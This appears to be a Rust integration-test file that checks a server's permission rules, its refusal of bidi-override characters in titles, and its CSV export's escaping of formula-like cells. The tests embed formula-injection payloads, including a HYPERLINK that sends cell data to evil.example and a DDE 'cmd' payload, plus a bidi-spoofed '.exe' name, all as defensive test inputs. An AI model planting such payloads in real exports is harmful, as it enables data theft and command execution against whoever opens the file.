//! The rules as the real server applies them to what clients push: the
//! same `ara-shared` rules the unit tests check, here refused (or accepted)
//! over a WebSocket, and what the CSV export makes of accepted texts.

use std::io::Write as _;
use std::process::{Command, Stdio};

use ara_shared::Param;
use ara_shared::protocol::ServerMessage;
use ara_shared::region::Membership;
use ara_shared::stakeholder::{Stakeholder, StakeholderKind};
use ara_shared::{
    Horizon, Mutation, PriorityId, PriorityPatch, Quarter, RegionId, Rejection, RejectionCode,
    Role, Seq, StakeholderId, State, Term,
};
use ara_tests::http;
use ara_tests::server::TestServer;
use ara_tests::ws::SyncClient;

fn horizon() -> Horizon {
    Horizon {
        term: Term::Short,
        start: Quarter::new(2026, 1).expect("valid"),
        end: Quarter::new(2026, 4).expect("valid"),
    }
}

fn set_lead(id: PriorityId, lead: Option<RegionId>) -> Mutation {
    Mutation::UpdatePriority {
        id,
        patch: PriorityPatch {
            lead_region: Some(lead),
            ..PriorityPatch::default()
        },
    }
}

/// The state a new connection of `cookie` is sent.
async fn current_state(server: &TestServer, cookie: &str) -> State {
    let (_, catch_up) = SyncClient::connect(server, cookie).await;
    match catch_up {
        ServerMessage::Snapshot { state, .. } => *state,
        other => panic!("a new client gets a snapshot, not {other:?}"),
    }
}

/// Pushes `mutation` alone and returns the refusal the server answers with.
async fn push_refused(client: &mut SyncClient, mutation: Mutation) -> Rejection {
    let envelope = client.envelope(mutation);
    let seq = envelope.seq;
    client.push(vec![envelope]).await;
    client
        .wait_for(&format!("the refusal of {seq:?}"), |m| match m {
            ServerMessage::Rejected { seq: s, rejection } if *s == seq => Some(rejection.clone()),
            ServerMessage::Ack { seq: s, .. } if *s == seq => {
                panic!("{seq:?} was accepted, but the rules refuse it")
            }
            _ => None,
        })
        .await
}

/// Pushes `mutation` alone and waits for its ack.
async fn push_accepted(client: &mut SyncClient, mutation: Mutation) -> Seq {
    let envelope = client.envelope(mutation);
    let seq = envelope.seq;
    client.push(vec![envelope]).await;
    client.ack(seq).await;
    seq
}

/// A demo priority with a lead region and a supporting member region.
fn led_and_supported(state: &State) -> (PriorityId, RegionId, RegionId) {
    state
        .priorities_in_order()
        .find_map(|p| {
            let lead = p.lead_region?;
            let supporter = p.supporting_regions.iter().copied().find(|r| {
                *r != lead
                    && state
                        .regions
                        .get(r)
                        .is_some_and(|r| r.membership == Membership::Member)
            })?;
            Some((p.id, lead, supporter))
        })
        .expect("the demo has a priority with a lead and a supporting member region")
}

#[tokio::test]
async fn a_supporting_regions_editor_cannot_take_or_drop_the_lead() {
    let server = TestServer::start_with(&[]).await;
    let secretariat = server.sign_up_secretariat().await;
    let before = current_state(&server, &secretariat).await;
    let (priority, lead, supporter) = led_and_supported(&before);
    let supporting_editor = server
        .invite_to_region(
            &secretariat,
            "Susi Support",
            "support@ara.test",
            Role::RegionEditor,
            Some(supporter),
        )
        .await;
    let lead_editor = server
        .invite_to_region(
            &secretariat,
            "Lea Lead",
            "lead@ara.test",
            Role::RegionEditor,
            Some(lead),
        )
        .await;

    let (mut client, _) = SyncClient::connect(&server, &supporting_editor).await;
    for next in [Some(supporter), None] {
        let refusal = push_refused(&mut client, set_lead(priority, next)).await;
        assert_eq!(refusal.code, RejectionCode::NotPermitted, "{refusal:?}");
        assert_eq!(refusal.param(Param::Role), Some("region_editor"));
    }
    let after = current_state(&server, &secretariat).await;
    assert_eq!(after.priorities[&priority].lead_region, Some(lead));
    assert_eq!(after, before, "refusals change nothing");

    // The lead region's own editor may hand the lead on.
    let (mut lead_client, _) = SyncClient::connect(&server, &lead_editor).await;
    push_accepted(&mut lead_client, set_lead(priority, Some(supporter))).await;
    let handed_on = current_state(&server, &secretariat).await;
    assert_eq!(handed_on.priorities[&priority].lead_region, Some(supporter));
}

#[tokio::test]
async fn a_title_with_a_bidi_override_is_refused_and_nothing_changes() {
    let server = TestServer::start().await;
    let secretariat = server.sign_up_secretariat().await;
    let (mut client, _) = SyncClient::connect(&server, &secretariat).await;
    let id = PriorityId(uuid::Uuid::now_v7());
    push_accepted(
        &mut client,
        Mutation::CreatePriority {
            id,
            title: "Battery value chain".into(),
            horizon: horizon(),
        },
    )
    .await;
    let before = current_state(&server, &secretariat).await;

    let refusal = push_refused(
        &mut client,
        Mutation::RenamePriority {
            id,
            title: "Battery \u{202E}niahc eulav".into(),
        },
    )
    .await;
    assert_eq!(refusal.code, RejectionCode::InvalidValue, "{refusal:?}");
    assert_eq!(refusal.param(Param::Field), Some("title"));
    assert_eq!(
        refusal.param(Param::Expected),
        Some(ara_shared::rejection::SINGLE_LINE)
    );
    assert_eq!(refusal.param(Param::Character), Some("U+202E"));
    let refused_new = push_refused(
        &mut client,
        Mutation::CreatePriority {
            id: PriorityId(uuid::Uuid::now_v7()),
            title: "\u{202E}txt.exe".into(),
            horizon: horizon(),
        },
    )
    .await;
    assert_eq!(refused_new.code, RejectionCode::InvalidValue);

    let after = current_state(&server, &secretariat).await;
    assert_eq!(after, before, "refusals change nothing");
    assert_eq!(after.priorities[&id].title, "Battery value chain");
}

/// Reads CSV as Python's `csv` module does (as a spreadsheet import would),
/// returning the rows.
fn python_csv_rows(csv: &[u8]) -> Vec<Vec<String>> {
    const READ: &str = "import csv, io, json, sys\n\
        text = sys.stdin.buffer.read().decode('utf-8')\n\
        json.dump(list(csv.reader(io.StringIO(text, newline=''))), sys.stdout)\n";
    let mut python = Command::new("python3")
        .args(["-c", READ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("python3 on the PATH");
    python
        .stdin
        .take()
        .expect("piped stdin")
        .write_all(csv)
        .expect("write the CSV to python3");
    let output = python.wait_with_output().expect("python3 finishes");
    assert!(
        output.status.success(),
        "python3 could not read the CSV: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout).expect("python3 printed the rows as JSON")
}

#[tokio::test]
async fn exported_cells_that_look_like_formulas_start_with_a_quote() {
    let server = TestServer::start().await;
    let secretariat = server.sign_up_secretariat().await;
    let (mut client, _) = SyncClient::connect(&server, &secretariat).await;
    let formulas = [
        "＝1+1",
        "=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")",
        "@SUM(1)",
        "-1",
    ];
    for title in formulas {
        push_accepted(
            &mut client,
            Mutation::CreatePriority {
                id: PriorityId(uuid::Uuid::now_v7()),
                title: title.into(),
                horizon: horizon(),
            },
        )
        .await;
    }
    push_accepted(
        &mut client,
        Mutation::CreatePriority {
            id: PriorityId(uuid::Uuid::now_v7()),
            title: "Battery value chain".into(),
            horizon: horizon(),
        },
    )
    .await;
    push_accepted(
        &mut client,
        Mutation::SetStakeholder {
            stakeholder: Stakeholder {
                id: StakeholderId(uuid::Uuid::now_v7()),
                name: "＋cmd|' /C calc'!A0".into(),
                kind: StakeholderKind::Industry,
                country: "DE".into(),
                website: String::new(),
            },
        },
    )
    .await;

    let export = http::get(
        &server.url,
        "/api/export/priorities.csv",
        Some(&secretariat),
    )
    .await;
    assert_eq!(export.status, 200, "{}", export.text());
    let rows = python_csv_rows(&export.body);
    assert_eq!(rows[0][2], "title");
    let titles: Vec<&str> = rows[1..].iter().map(|r| r[2].as_str()).collect();
    let expected: Vec<String> = formulas
        .iter()
        .map(|t| format!("'{t}"))
        .chain(["Battery value chain".to_owned()])
        .collect();
    assert_eq!(titles, expected);

    let export = http::get(
        &server.url,
        "/api/export/stakeholders.csv",
        Some(&secretariat),
    )
    .await;
    assert_eq!(export.status, 200, "{}", export.text());
    let rows = python_csv_rows(&export.body);
    assert_eq!(rows[0][1], "name");
    assert_eq!(rows[1][1], "'＋cmd|' /C calc'!A0");
}
